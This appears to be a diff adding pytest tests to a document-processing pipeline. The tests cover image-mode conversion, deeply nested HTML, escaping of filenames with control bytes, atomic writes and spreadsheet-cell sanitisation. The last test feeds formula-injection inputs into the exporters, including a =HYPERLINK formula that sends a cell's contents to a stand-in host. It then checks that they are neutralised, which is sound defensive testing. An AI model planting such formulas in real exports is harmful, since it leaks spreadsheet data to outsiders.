@@ -221,3 +221,94 @@ def test_review_renders_a_very_tall_page_within_the_pixel_limit(tmp_path, monkey
     im, frame = render_view((str(p), 0), IMAGE_WIDTH, ocr=True)
     assert (im.width - 1) * (im.height - 1) <= 2e6 and im.height > 10 * im.width  # pdfium rounds sides up
     assert frame == pytest.approx((300, 60000))  # OCR boxes stay in 300-dpi pixels
+
+
+# -- issue 21 ---------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("mode", ["I;16", "I", "F", "1", "P", "CMYK", "LA", "RGBA", "YCbCr", "12bit"])
+def test_every_image_mode_scaled_not_clipped(mode):
+    """Paper stays light and ink dark whatever the mode: within 2 levels of the 8-bit original (1-bit: 0/255)."""
+    import numpy as np
+    from PIL import Image
+
+    from pipeline.ocr.imagemodes import to_8bit
+
+    base = fi.scan_header().crop((0, 100, 1300, 400))
+    a = np.asarray(base).astype(np.int64)
+    if mode == "I;16":
+        im = Image.fromarray((a * 257).astype(np.uint16))
+    elif mode == "12bit":  # a 12-bit scanner's data in a 16-bit container
+        im = Image.fromarray((a * 4095 // 255).astype(np.uint16))
+    elif mode == "RGBA":  # ink on a transparent background whose colour is black
+        im = Image.merge("RGBA", (*[Image.new("L", base.size, 0)] * 3, Image.eval(base, lambda v: 255 - v)))
+    elif mode == "1":
+        im = base.convert("1", dither=Image.Dither.NONE)
+    else:
+        im = base.convert(mode)
+    assert im.mode == ("I;16" if mode in ("I;16", "12bit") else mode)
+    out = np.asarray(to_8bit(im).convert("L")).astype(np.int64)
+    if mode == "1":
+        assert set(np.unique(out)) == {0, 255} and (out[a > 128] == 255).all() and (out[a < 128] == 0).all()
+    elif mode == "RGBA":
+        assert abs(out - (255 - (255 - a))).max() <= 2  # over white paper: the page as drawn
+    else:
+        assert abs(out - a).max() <= 2, (mode, abs(out - a).max())
+
+
+def test_html_deeper_than_the_parser_limit_keeps_its_text_or_says_what_it_left_out():
+    from pipeline.readers.html import html_layout
+
+    paras = "".join(f"<p>Đoạn {i} của văn bản.</p>" for i in range(3))
+    lay = html_layout("<html><body>" + "<font>" * 3000 + paras + "</body></html>")
+    assert lay.finish()[0].split("\n\n") == [f"Đoạn {i} của văn bản." for i in range(3)] and lay.left_out == 0
+    lay = html_layout("<html><body><p>Đầu trang.</p>" + "<div>" * 2100 + "<p>Sâu 123</p></body></html>")
+    assert lay.finish()[0] == "Đầu trang." and lay.left_out == len("Sâu123")
+
+
+def test_term_safe_shows_the_bytes_of_a_name_that_is_not_utf8():
+    from pipeline.core.textutil import shown_path, term_safe
+
+    name = os.fsdecode(b"ch\xe9 th\xfe\x1b.txt")
+    assert term_safe(name) == "ch\\xe9 th\\xfe\\x1b.txt"
+    assert shown_path(name) == "ch\\xe9 th\\xfe\x1b.txt" and shown_path("bình thường.txt") == "bình thường.txt"
+
+
+def test_atomic_write_keeps_the_previous_file_on_any_failure(tmp_path):
+    import errno
+
+    from pipeline.exports.files import atomic_write, write_error, write_text
+    from pipeline.core.errors import InputMissingError
+
+    target = tmp_path / "e.csv"
+    write_text(target, "old\n")
+    os.chmod(target, 0o640)
+    with pytest.raises(RuntimeError):
+        with atomic_write(target) as f:
+            f.write("half of the new")
+            raise RuntimeError("the database went away")
+    assert target.read_text() == "old\n" and os.listdir(tmp_path) == ["e.csv"]
+    with pytest.raises(InputMissingError, match=r"e.csv: cannot write: No space left on device"):
+        with atomic_write(target) as f:
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+    assert target.read_text() == "old\n" and os.listdir(tmp_path) == ["e.csv"]
+    write_text(target, "new\n")
+    assert target.read_text() == "new\n" and os.stat(target).st_mode & 0o777 == 0o640  # its permissions kept
+    e = write_error(tmp_path / "x.ics", OSError(errno.EROFS, os.strerror(errno.EROFS)))
+    assert (e.exit_code, e.one_line()) == (3, f"{tmp_path}/x.ics: cannot write: Read-only file system (check the "
+                                              "permissions of the file and its folder, or write somewhere else)")
+
+
+@pytest.mark.parametrize("value, csv_value", [
+    ('=HYPERLINK("http://x.example/?"&B2,"a")', '\'=HYPERLINK("http://x.example/?"&B2,"a")'),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "\n=1"),
+    ("a\fb\x1bc\x07d\u202ee\x85", "a\nbcde"), ("Sở Y tế", "Sở Y tế"), (96.5, 96.5), (None, None)])
+def test_spreadsheet_cells(value, csv_value):
+    from openpyxl import Workbook
+
+    from pipeline.exports.cells import csv_cell, xlsx_row
+
+    assert csv_cell(value) == csv_value
+    ws = Workbook().active
+    xlsx_row(ws, [value])
+    cell = ws["A1"]
+    assert cell.data_type != "f" and (cell.value == (csv_value[1:] if str(csv_value).startswith("'") else csv_value))
